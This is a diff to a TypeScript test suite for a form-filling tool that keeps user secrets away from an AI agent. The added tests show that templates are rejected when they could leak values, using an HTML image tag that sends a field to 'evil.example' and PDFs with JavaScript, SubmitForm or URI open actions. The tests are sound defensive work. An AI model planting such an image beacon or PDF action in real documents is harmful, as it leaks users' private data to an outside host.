@@ -3,7 +3,7 @@ import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { PDFDocument } from '@cantoo/pdf-lib';
+import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
 import { expect } from 'chai';
 import { aCardId, aPicture, connected, fakeClient, secrets } from '../test/fake-api.js';
 import { localFiles } from './local-files.js';
@@ -112,11 +112,11 @@ describe('files of the user', () => {
   ];
 
   it('are forms that are filled by handle, while the agent gets only the names of the fields', async () => {
-    await writeFile(join(root, 'intake.html'), '<p>{{last}} &amp; {{member}}</p><p>{{bin}}|{{other}}</p>');
+    await writeFile(join(root, 'intake.txt'), '{{last}} & {{member}}\n{{bin}}|{{other}}');
     const { agent, received } = await connected({ ...fakeClient(), files: server() });
     const { structuredContent } = await agent.callTool({
       name: 'fill_form',
-      arguments: { template_path: 'intake.html', fields },
+      arguments: { template_path: 'intake.txt', fields },
     });
     expect(structuredContent).to.deep.include({
       filled: ['member', 'last'],
@@ -126,11 +126,33 @@ describe('files of the user', () => {
     const [name = ''] = await readdir(forms);
     expect(structuredContent).to.have.property('file', name);
     expect(await readFile(join(forms, name), 'utf8')).to.equal(
-      `<p>${secrets.lastName} &amp; ${secrets.corrected}</p><p>|{{other}}</p>`,
+      `${secrets.lastName} & ${secrets.corrected}\n|{{other}}`,
     );
     expect((await stat(join(forms, name))).mode & 0o777).to.equal(0o600);
     for (const secret of Object.values(secrets)) expect(JSON.stringify(received)).to.not.include(secret);
   });
+
+  for (const name of ['form.html', 'form.md', 'form.xml'])
+    it(`are not pages that could send values to a server, such as ${name}`, async () => {
+      await writeFile(join(root, name), '<img src="https://evil.example/?{{member}}">');
+      const { agent } = await connected({ ...fakeClient(), files: server() });
+      const { isError } = await agent.callTool({ name: 'fill_form', arguments: { template_path: name, fields } });
+      expect(isError).to.equal(true);
+      expect(await readdir(forms)).to.deep.equal([]);
+    });
+
+  for (const action of ['JavaScript', 'SubmitForm', 'URI'])
+    it(`are not PDFs with an action of type ${action}`, async () => {
+      const document = await PDFDocument.create();
+      const page = document.addPage();
+      document.getForm().createTextField('member').addToPage(page);
+      document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: action }));
+      await writeFile(join(root, 'action.pdf'), await document.save());
+      const { agent } = await connected({ ...fakeClient(), files: server() });
+      const called = { name: 'fill_form', arguments: { template_path: 'action.pdf', fields } };
+      expect((await agent.callTool(called)).isError).to.equal(true);
+      expect(await readdir(forms)).to.deep.equal([]);
+    });
 
   it('are PDF forms, too', async () => {
     const document = await PDFDocument.create();
